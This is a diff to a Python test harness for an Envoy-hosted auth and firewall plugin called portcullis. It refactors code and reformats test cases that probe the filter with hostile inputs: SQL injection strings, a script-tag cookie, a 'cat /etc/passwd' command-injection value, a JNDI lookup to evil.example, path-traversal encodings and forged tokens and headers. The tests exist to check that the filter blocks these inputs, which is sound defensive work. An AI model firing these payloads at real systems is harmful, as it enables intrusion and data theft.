@@ -76,7 +76,7 @@ class Proxy:
         self.port, self.admin_port = port_or_free(10000), port_or_free(9901)
         self.directory = tempfile.TemporaryDirectory(prefix="portcullis-demo-")
         self.log = Path(self.directory.name) / "envoy.log"
-        self.events, self._arrived = {}, queue.Queue()
+        self.events, self.arrived = {}, queue.Queue()
         bootstrap = Path(self.directory.name) / "envoy.json"
         bootstrap.write_text(json.dumps(self._bootstrap(service_port)))
         self.process = subprocess.Popen(
@@ -99,12 +99,12 @@ class Proxy:
         endpoint["endpoint"]["address"]["socket_address"]["port_value"] = service_port
         plugin = listener["filter_chains"][0]["filters"][0]["typed_config"]["http_filters"][0]["typed_config"]["config"]
         plugin["vm_config"]["code"]["local"]["filename"] = variable("PORTCULLIS_WASM")
-        plugin["configuration"]["value"] = yaml.safe_load((HERE / "portcullis.yaml").read_text())
+        plugin["configuration"]["value"] = json.dumps(yaml.safe_load((HERE / "portcullis.yaml").read_text()))
         return bootstrap
 
     def _read_events(self):
         for line in self.process.stdout:
-            self._arrived.put(json.loads(line))
+            self.arrived.put(json.loads(line))
 
     def wait_until_it_serves(self):
         deadline = time.monotonic() + 60
@@ -123,7 +123,7 @@ class Proxy:
         deadline = time.monotonic() + 2
         while len(self.events.get(request_id, [])) < wanted and time.monotonic() < deadline:
             try:
-                event = self._arrived.get(timeout=0.05)
+                event = self.arrived.get(timeout=0.05)
             except queue.Empty:
                 continue
             self.events.setdefault(event["details"].get("request_id"), []).append(event)
@@ -217,9 +217,13 @@ def tries():
     challenge = {"www-authenticate": "Bearer"}
     sql = "1' UNION SELECT login, secret FROM staff-- "
 
+    unknown, denied, limited = "AUTH_FAILURE", "ACCESS_DENIED", "RATE_LIMITED"
+    suspicious, sensitive = "SUSPICIOUS_REQUEST", "SENSITIVE_ACCESS"
+
     yield "Who is calling"
     yield Try("a public route, no token", 200, path="/health")
-    yield Try("a good token", 200, headers=bearer(), upstream={"x-auth-subject": "42", "x-auth-roles": "user", "authorization": None})
+    yield Try("a good token", 200, headers=bearer(),
+              upstream={"x-auth-subject": "42", "x-auth-roles": "user", "authorization": None})
     yield Try("a good token in a cookie", 200, headers=[("Cookie", "a=1; access_token=" + token(user_id="43"))],
               upstream={"x-auth-subject": "43", "cookie": "a=1"})
     for what, reason, headers in [
@@ -227,7 +231,7 @@ def tries():
         ("a token that is none", "malformed", [("Authorization", "Bearer garbage")]),
         ("a token of yesterday", "expired", bearer(lifetime=-3600)),
         ("a token under a forged signature", "bad_signature", bearer("somebody-elses-secret-0123456789-abc")),
-        ("a token without a signature", "unsupported_algorithm", bearer(algorithm="none")),
+        ("a token without a signature", "malformed", bearer(algorithm="none")),
         ("a token of another issuer", "unknown_issuer", bearer(iss="https://evil.example.com")),
         ("a token for another service", "wrong_audience", bearer(aud="another-api")),
         ("a refresh token", "wrong_type", bearer(type="refresh")),
@@ -236,31 +240,32 @@ def tries():
         ("a token of a closed account", "inactive", bearer(is_active=False)),
         ("two different tokens", "ambiguous", bearer() + [("Cookie", "access_token=" + token(user_id="43"))]),
     ]:
-        yield Try(what, 401, reason, "AUTH_FAILURE", headers=headers, answer=challenge)
+        yield Try(what, 401, reason, unknown, headers=headers, answer=challenge)
 
     yield "Services that sign"
     yield Try("a good service signature", 200, headers=signature(),
               upstream={"x-auth-subject": "order-service", "x-service-token": None})
-    yield Try("a forged service signature", 401, "bad_service_signature", "AUTH_FAILURE", headers=signature(key="forged"))
-    yield Try("a service signature of ten minutes ago", 401, "timestamp_too_old", "AUTH_FAILURE", headers=signature(age=600))
+    yield Try("a forged service signature", 401, "bad_service_signature", unknown, headers=signature(key="forged"))
+    yield Try("a service signature of ten minutes ago", 401, "timestamp_too_old", unknown, headers=signature(age=600))
 
     yield "May they"
     admin = bearer(user_id="1", roles=["admin"])
-    yield Try("an admin at /admin", 200, "", "SENSITIVE_ACCESS", path="/admin/settings", headers=admin)
-    yield Try("a user at /admin", 403, "forbidden", "ACCESS_DENIED", path="/admin/settings", headers=bearer(user_id="44"))
-    yield Try("a path that no route knows", 403, "no_route", "ACCESS_DENIED", path="/internal", headers=bearer(user_id="44"))
-    yield Try("a role by inheritance", 200, headers=bearer(user_id="45", roles=["manager"]) + json_type, body=b"{}", **post)
+    yield Try("an admin at /admin", 200, "", sensitive, path="/admin/settings", headers=admin)
+    yield Try("a user at /admin", 403, "forbidden", denied, path="/admin/settings", headers=bearer(user_id="44"))
+    yield Try("a path that no route knows", 403, "no_route", denied, path="/internal", headers=bearer(user_id="44"))
+    yield Try("a role by inheritance", 200, headers=bearer(user_id="45", roles=["manager"]) + json_type, **post)
 
     yield "Tricks"
-    yield Try("//admin/./x by a user", 403, "forbidden", "ACCESS_DENIED", path="//admin/./x", headers=bearer(user_id="46"),
+    yield Try("//admin/./x by a user", 403, "forbidden", denied, path="//admin/./x", headers=bearer(user_id="46"),
               details={"path": "/admin/x"})
-    yield Try("/public/%2e%2e/admin/x by an admin", 200, "", "SENSITIVE_ACCESS", path="/public/%2e%2e/admin/x", headers=admin,
-              upstream={"path": "/admin/x"})
-    yield Try("/public/..%2fadmin", 400, "*", "SUSPICIOUS_REQUEST", path="/public/..%2fadmin")
-    yield Try("/public/%252e%252e/admin", 400, "*", "SUSPICIOUS_REQUEST", path="/public/%252e%252e/admin")
-    yield Try("a forged identity header", 200, headers=bearer(user_id="47") + [("X-Auth-Subject", "1"), ("X-Auth-Roles", "admin")],
+    yield Try("/public/%2e%2e/admin/x by an admin", 200, "", sensitive, path="/public/%2e%2e/admin/x",
+              headers=admin, upstream={"path": "/admin/x"})
+    yield Try("/public/..%2fadmin", 400, "*", suspicious, path="/public/..%2fadmin")
+    yield Try("/public/%252e%252e/admin", 400, "*", suspicious, path="/public/%252e%252e/admin")
+    yield Try("a forged identity header", 200,
+              headers=bearer(user_id="47") + [("X-Auth-Subject", "1"), ("X-Auth-Roles", "admin")],
               upstream={"x-auth-subject": "47", "x-auth-roles": "user"})
-    yield Try("a forged X-Forwarded-For", 401, "missing", "AUTH_FAILURE", headers=[("X-Forwarded-For", "10.0.0.1")],
+    yield Try("a forged X-Forwarded-For", 401, "missing", unknown, headers=[("X-Forwarded-For", "10.0.0.1")],
               details={"ip_address": "127.0.0.1"})
     yield Try("bytes that are no text", 200, path="/public/a", headers=[("User-Agent", b"\xff\xfe")])
 
@@ -269,30 +274,32 @@ def tries():
     for n in range(1, 6):
         yield Try(f"request {n} at once", 200, headers=burst, answer={"ratelimit": f"r={5 - n}"})
     for n in range(6, 9):
-        yield Try(f"request {n} at once", 429, "rate_limit", "RATE_LIMITED", headers=burst, answer={"retry-after": ""})
+        yield Try(f"request {n} at once", 429, "rate_limit", limited, headers=burst, answer={"retry-after": ""})
 
     yield "Is it safe"
     user = lambda n: bearer(user_id=f"inspected-{n}") + json_type
     yield Try("300 KB of good JSON", 200, headers=user(1), body=json_body("it's O'Brien's <3", 300_000), **post)
-    yield Try("SQL deep in 300 KB of JSON", 403, "injection", "SUSPICIOUS_REQUEST", headers=user(1),
+    yield Try("SQL deep in 300 KB of JSON", 403, "injection", suspicious, headers=user(1),
               body=json_body(sql, 300_000), details={"class": "sqli", "parameter": "*"}, **post)
-    yield Try("SQL in the query", 403, "injection", "SUSPICIOUS_REQUEST", headers=user(2),
-              path="/api/v1/users/7?q=1%27%20UNION%20SELECT%20login%2C%20secret%20FROM%20staff--%20", details={"class": "sqli"})
-    yield Try("script in a cookie", 403, "injection", "SUSPICIOUS_REQUEST",
+    yield Try("SQL in the query", 403, "injection", suspicious, headers=user(2),
+              path="/api/v1/users/7?q=1%27%20UNION%20SELECT%20login%2C%20secret%20FROM%20staff--%20",
+              details={"class": "sqli"})
+    yield Try("script in a cookie", 403, "injection", suspicious,
               headers=user(2) + [("Cookie", "theme=%3Cscript%3Ealert(1)%3C/script%3E")], details={"class": "xss"})
-    yield Try("a shell command in a form", 403, "injection", "SUSPICIOUS_REQUEST", body=b"name=x%3B+cat+%2Fetc%2Fpasswd",
+    yield Try("a shell command in a form", 403, "injection", suspicious, body=b"name=x%3B+cat+%2Fetc%2Fpasswd",
               headers=bearer(user_id="inspected-3") + [("Content-Type", "application/x-www-form-urlencoded")],
               details={"class": "command"}, **post)
-    yield Try("a JNDI lookup, only watched", 200, "injection", "SUSPICIOUS_REQUEST", headers=user(4),
-              path="/api/v1/users/7?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", details={"class": "template", "mode": "monitor"})
-    yield Try("JSON that is none", 400, "*", "SUSPICIOUS_REQUEST", headers=user(5), body=b'{"a":', **post)
-    yield Try("a body beyond 1 MiB", 413, "*", "SUSPICIOUS_REQUEST", headers=user(5), body=json_body("", 1_200_000), **post)
+    yield Try("a JNDI lookup, only watched", 200, "injection", suspicious, headers=user(4),
+              path="/api/v1/users/7?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
+              details={"class": "template", "mode": "monitor"})
+    yield Try("JSON that is none", 400, "*", suspicious, headers=user(5), body=b'{"a":', **post)
+    yield Try("a body beyond 1 MiB", 413, "*", suspicious, headers=user(5), body=json_body("", 1_200_000), **post)
 
     yield "Browsers"
     preflight = [("Origin", "https://app.example.com"), ("Access-Control-Request-Method", "POST")]
     yield Try("a preflight without a token", 204, method="OPTIONS", headers=preflight,
               answer={"access-control-allow-origin": "https://app.example.com"})
-    yield Try("a denial that the page may read", 401, "missing", "AUTH_FAILURE", headers=preflight[:1],
+    yield Try("a denial that the page may read", 401, "missing", unknown, headers=preflight[:1],
               answer={"access-control-allow-origin": "https://app.example.com", "x-frame-options": "DENY"})
 
 
@@ -395,15 +402,18 @@ curl -i {url}/admin/x -H "Authorization: Bearer $ADMIN_TOKEN"
 curl -i --path-as-is {url}/public/..%2fadmin
 curl -i {url}/api/v1/users/7 -H "Authorization: Bearer $USER_TOKEN" -H "X-Auth-Roles: admin"
 curl -i "{url}/public/a?q=%3Cscript%3Ealert(1)%3C/script%3E"
-curl -i {url}/api/v1/users -H "Authorization: Bearer $USER_TOKEN" --json '{{"name": "1 UNION SELECT password FROM users"}}'
-for n in 1 2 3 4 5 6 7; do curl -s -o /dev/null -w '%{{http_code}}\\n' {url}/api/v1/users/7 -H "Authorization: Bearer $USER_TOKEN"; done
+curl -i {url}/api/v1/users -H "Authorization: Bearer $USER_TOKEN" -H 'Content-Type: application/json' \\
+  -d '{{"name": "1 UNION SELECT password FROM users"}}'
+for n in 1 2 3 4 5 6 7; do
+  curl -s -o /dev/null -w '%{{http_code}}\\n' {url}/api/v1/users/7 -H "Authorization: Bearer $USER_TOKEN"
+done
 """, flush=True)
     while proxy.process.poll() is None:
         try:
-            print(json.dumps(proxy._arrived.get(timeout=0.5)), flush=True)
+            print(json.dumps(proxy.arrived.get(timeout=0.5)), flush=True)
         except queue.Empty:
             pass
-    return "Envoy ended:\n" + proxy.log.read_text()[-2000:]
+    return "Envoy ended:\n" + "\n".join(proxy.log.read_text().splitlines()[-15:])
 
 
 def main():
